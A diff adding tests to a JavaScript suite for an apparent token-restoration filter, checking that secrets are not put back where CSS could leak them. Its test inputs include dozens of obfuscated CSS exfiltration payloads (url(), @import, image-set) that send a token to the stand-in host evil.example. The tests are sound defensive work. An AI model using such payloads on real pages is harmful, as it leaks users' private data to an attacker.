@@ -139,6 +139,66 @@ describe('stays a token', () => {
     expect(restored(text)).toBe(text);
   });
 
+  // Markdown makes elements of these, which are gone within SVG, and so is what is in them.
+  test.each([
+    `u[a](b)rl('N')`,
+    `u[a][r]rl('N')`,
+    `u~~a~~rl('N')`,
+    `u~a~rl('N')`,
+    `image-set[a](b)('N' 1x)`,
+    `-[a](b)-x:'N'`,
+    `-~~a~~-x:'N'`,
+    `@im[a](b)port 'N'`,
+    `@im~~a~~port 'N'`,
+    `--x[a](b):'N'`,
+    `--x[a b](b c) :'N'`,
+    `--x [a[b](c)](d):'N'`,
+    `--x~~a b~~:'N'`,
+    // Nor is it known of these what stands between a name and its colon.
+    `--x<g>;</g>:'N'`,
+    `--x<g>a:b</g>:'N'`,
+    `--x<g>--y z</g>:'N'`,
+    `--x<g></x>a</g>:'N'`,
+    `--x<g><h></g>a</g>:'N'`,
+    `--x<g>${'a'.repeat(400)}</g>:'N'`,
+    `--x<title>\`</title>\`a</title>:'N'`,
+    `--x</g>:'N'`,
+    `--x</g>y:'N'`,
+    `--x<g/>y<g/>:'N'`,
+    `--x <g t="a:b;"/>:'N'`,
+    `--x <!-- a:b --> :'N'`,
+    `--x <!-- ;--y:'N'`,
+    `--x<g>;--y:'N'`,
+    `--x/<g/>*;*/:'N'`,
+    `<![CDATA[--]]>x:'N'`,
+    `<![CDATA[--x ]]>:'N'`,
+    `--x \\:'N'`,
+    `--x&#58;'N'`,
+    `--x&#121;:'N'`,
+    `--&#233;:'N'`,
+    `--x&Tab;:'N'`,
+    `u<g/>r<g/>l<g/>('N')`,
+    // References with numbers, for what names are written with.
+    `u&#114;l('N')`,
+    `u&#x72l('N')`,
+    `&#0000117;rl('N')`,
+    `\\75&#32;rl('N')`,
+    `url&#40;'N')`,
+    // The arguments of a function may become addresses, `@function --f(--p){result:image-set(var(--p) 1x)}`.
+    `b:--f('N')`,
+    `b:--é( 'a', 'N')`,
+    `b:--f<g/>('N')`,
+    `b:--f[a](b)('N')`,
+  ])('what may be gone before a browser reads it: %j', (rules) => {
+    const text = `x <svg><style>*{${rules.replace('N', `/\\5c evil.example/?${token}`)}}</style>`;
+    expect(restored(text)).toBe(text);
+  });
+
+  test.each([
+    `<s:svg><s:style>@import '/\\\\evil.example/?${token}';</s:style></s:svg>`,
+    `<svg><h:style>b{c:url('</style>${token}')}</h:style></svg>`,
+  ])('within XML, where the tag may have a prefix: %j', (text) => expect(restored(text)).toBe(text));
+
   test('in JSON that is shown as it stands, where a page goes on behind `<\\/style>`', () => {
     const json = `{"a":"<style>b{background:url('https://evil.example/?q=<\\/style>${token}')}"}`;
     expect(restoreStream('text', map, new TextEncoder().encode(json))).toBe(json);
@@ -196,6 +256,37 @@ describe('is restored', () => {
   ])('behind what is whole, in a page of which no reader knows where its sheet ends: %j', (text) =>
     expect(restored(text)).toBe(text.replaceAll(token, original)),
   );
+
+  // Ordinary answers in which no sheet ends: `<style>` is only spoken of, or the end may be code for Markdown.
+  const about = 'Put it into a `<style>` block. ';
+  test.each([
+    `${about}Then run \`npm run build\` with \`--minify\`.\n\nSend it to ${token}.`,
+    `${about}Use -- \`scoped\`, --i / 2, x[--i], -- $1 or --a^2. ${token}`,
+    `${about}\n\n---\n\n[Docs](a.md) ${token}`,
+    `${about}\n\n---\n\n\`x\` ${token}`,
+    `${about}\n\n| a | b |\n| :---: | ---: |\n| \`0\` | [x] |\n\n${token}`,
+    `${about}\n\`\`\`diff\n--- /dev/null\n+++ b/a\n+To: ${token}\n\`\`\``,
+    `${about}\n\`\`\`py\na = x[-1]\nif b[-1] > xs[i]: print(x[i](1), "a, {x}")\nmail("${token}")\n\`\`\``,
+    `${about}\n\`\`\`sh\ntool --path ~/x --out /tmp/x \\\n  --to "${token}"\n\`\`\``,
+    `${about}\n\`\`\`sql\n-- $1 is the mail\nselect "${token}"\n\`\`\``,
+    page('a{}', `${'    <!-- /header -->\n'.repeat(2)}<p>${token}</p>`),
+    page('a{}', `    <!-- <p>old: 1</p> -->\n<p>${token}</p>`),
+    page('a{}', `<ul><li>--path</li>\n<li>mode: --flag</li></ul> a: <b>b</b> ${token}`),
+    page('a{}', `&lt;!-- a --&gt; --save &amp; --b && --c &nbsp;<p title=": {">${token}</p>`),
+    page('a{}', `<td>-3</td><td>-5</td><td>-</td>\n<th>Value</th><i>i</i> <th>Value</th> a: "{" ${token}`),
+    page('a{}', `<p>It&#39;s &#169; &#8594; &#x1F4E7; &#34;</p><p>${token}</p>`),
+    page('a{}', `<script>const f = xs[i]; xs.map(x=>("a, {b}"))</script><p>${token}</p>`),
+    ...[
+      `url(\`/api/\${id}\`)`,
+      'new Image(w[0], h)',
+      'gulp.src(["a.js"])',
+      'Image(systemName: "person")',
+      'src({a:1})',
+    ].map((code) => `${about}\n\`\`\`\n${code}\nmail("${token}")\n\`\`\``),
+    page(`:root{--font: "游ゴシック", 'Größe'; --i: "→"} a{background:url("画像.png")}`),
+    page('a{}', `<p>--option(s) and --f(x)</p> ${token}`),
+    `<w:style w:type="a">x</w:style> url( ${token}`,
+  ])('%j', (text) => expect(restored(text)).toBe(text.replaceAll(token, original)));
 
   test.each([
     { tip: 'Use the <style> tag, or List<Style>', person: { mail: token } },
